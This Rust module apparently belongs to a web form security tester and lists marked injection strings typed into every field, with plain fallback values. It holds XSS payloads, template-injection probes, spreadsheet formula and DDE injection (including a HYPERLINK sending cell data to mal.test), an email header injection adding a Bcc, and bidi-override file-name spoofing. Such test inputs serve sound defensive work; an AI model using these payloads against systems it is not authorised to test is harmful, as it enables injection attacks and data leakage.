//! What is typed into every field.

/// In every string: what is looked for in the logs, and what tells our strings from the page's own words.
pub const MARK: &str = "zorglub";

/// Name of the string, and the string. Each begins as its attack needs.
pub fn strings() -> Vec<(&'static str, String)> {
    let marked = |text: &str| format!("{text} {MARK}");
    vec![
        ("script", marked("<script>alert(1)</script>")),
        (
            "attribute",
            marked("\"><img src=x onerror=alert(1)>' onfocus='alert(1)"),
        ),
        ("textarea", marked("</textarea><script>alert(1)</script>")),
        ("title", marked("</title><svg onload=alert(1)>")),
        (
            "comment",
            marked("--><!--<![CDATA[<script>alert(1)</script>"),
        ),
        ("entity", marked("&lt;script&gt;alert(1)&lt;/script&gt;")),
        ("template", marked("{{7*7}} ${7*7} <%= 7*7 %> #{7*7}")),
        ("formula", marked("=HYPERLINK(\"https://mal.test/?\"&A1)")),
        ("plus", marked("+1")),
        ("minus", marked("-1+cmd|' /C calc'!A0")),
        ("at", marked("@SUM(A1:A9)")),
        ("tab", marked("\t=1+1")),
        (
            "lines",
            marked("a\r\nBcc: tous@mal.test\r\n\r\n<b>corps</b>"),
        ),
        ("nul", marked("a\0b\u{1b}[31mrouge\u{7}\u{85}")),
        ("direction", marked("a\u{202e}fdp.exe\u{2066}\u{200f}")),
        ("emoji", marked("👩🏽‍🌾🇫🇷 é\u{301}\u{1f3f4}")),
        ("long", format!("{MARK} ").repeat(38)),
        ("link", marked("javascript:alert(1)//https://mal.test")),
    ]
}

/// What is typed instead where a field refuses the hostile string, tried one after the other until it takes one.
pub const PLAIN: &[&str] = &[
    "49007",
    "12",
    "01/03/2026",
    "01/03/2030",
    "zorglub@exemple.fr",
    "02 41 00 00 00",
    "zorglub",
];
